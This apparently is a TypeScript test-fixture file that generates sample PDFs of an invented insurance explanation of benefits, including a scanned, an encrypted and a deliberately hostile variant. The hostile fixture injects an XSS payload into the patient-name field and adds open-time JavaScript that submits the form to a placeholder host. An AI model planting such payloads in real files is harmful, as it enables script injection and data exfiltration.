import { PDFDocument, StandardFonts, degrees } from '@cantoo/pdf-lib';
import type { PDFFont, PDFPage } from '@cantoo/pdf-lib';

/** A piece of text and where it stands: points from the left, and from the top of the page. */
type At = readonly [x: number, top: number, text: string];

/** An invented explanation of benefits as payers print them: pairs beside one another, then a table in which one cell is empty. */
const EOB: readonly At[] = [
  [40, 40, 'CEDAR VALLEY HEALTH'], [400, 40, 'Explanation of Benefits'],
  [40, 80, 'Claim number'], [150, 80, '26H0099120'], [320, 80, 'Patient'], [430, 80, 'LINDQVIST, MAREN'],
  [40, 94, 'Patient account'], [150, 94, 'AC-70551'], [320, 94, 'Member ID'], [430, 94, 'W4410077121'],
  [40, 108, 'Date of service'], [150, 108, '09/14/2026'], [320, 108, 'Remittance date'], [430, 108, '10/05/2026'],
  [40, 122, 'Claim status'], [150, 122, 'Denied'], [320, 122, 'Check number'], [430, 122, '881204417'],
  [40, 136, 'Total charge'], [150, 136, '$412.00'], [320, 136, 'Total paid'], [430, 136, '$0.00'],
  [40, 180, 'Line'], [80, 180, 'Procedure'], [150, 180, 'Modifier'], [215, 180, 'Service date'], [300, 180, 'Charge'], [370, 180, 'Allowed'], [440, 180, 'Paid'], [500, 180, 'Adjustment'],
  [40, 194, '1'], [80, 194, '97110'], [150, 194, 'GP'], [215, 194, '09/14/2026'], [300, 194, '$300.00'], [370, 194, '$0.00'], [440, 194, '$0.00'], [500, 194, 'CO-197'],
  [40, 208, '2'], [80, 208, '97140'], [215, 208, '09/14/2026'], [300, 208, '$112.00'], [370, 208, '$0.00'], [440, 208, '$0.00'], [500, 208, 'CO-197'],
  [40, 260, 'CO-197: No authorization was on file for this service.'],
];

function draw(page: PDFPage, font: PDFFont, pieces: readonly At[]): void {
  for (const [x, top, text] of pieces) page.drawText(text, { x, y: 792 - top, size: 9, font });
}

async function begun(): Promise<{ file: PDFDocument; page: PDFPage; font: PDFFont }> {
  const file = await PDFDocument.create();
  return { file, page: file.addPage([612, 792]), font: await file.embedFont(StandardFonts.Helvetica) };
}

export async function eobPdf(): Promise<Buffer> {
  const { file, page, font } = await begun();
  draw(page, font, EOB);
  page.drawText('COPY 99,999.99', { x: 150, y: 300, size: 60, font, rotate: degrees(45), opacity: 0.1 });
  return Buffer.from(await file.save());
}

/** A page that is only a picture, as a scanner makes it. */
export async function scannedPdf(): Promise<Buffer> {
  const { file, page } = await begun();
  page.drawRectangle({ x: 40, y: 40, width: 500, height: 700 });
  return Buffer.from(await file.save());
}

export async function lockedPdf(): Promise<Buffer> {
  const { file, page, font } = await begun();
  draw(page, font, EOB);
  file.encrypt({ userPassword: 'birthdate', ownerPassword: 'payer' });
  return Buffer.from(await file.save());
}

/** One whose text is markup, and which asks for a script to be run when it is opened. */
export async function hostilePdf(): Promise<Buffer> {
  const { file, page, font } = await begun();
  draw(page, font, EOB.map(([x, top, text]): At => [x, top, text === 'LINDQVIST, MAREN' ? '<img src=x onerror=alert(1)>' : text]));
  file.addJavaScript('open', 'app.alert("no"); this.submitForm("https://example.invalid");');
  return Buffer.from(await file.save());
}
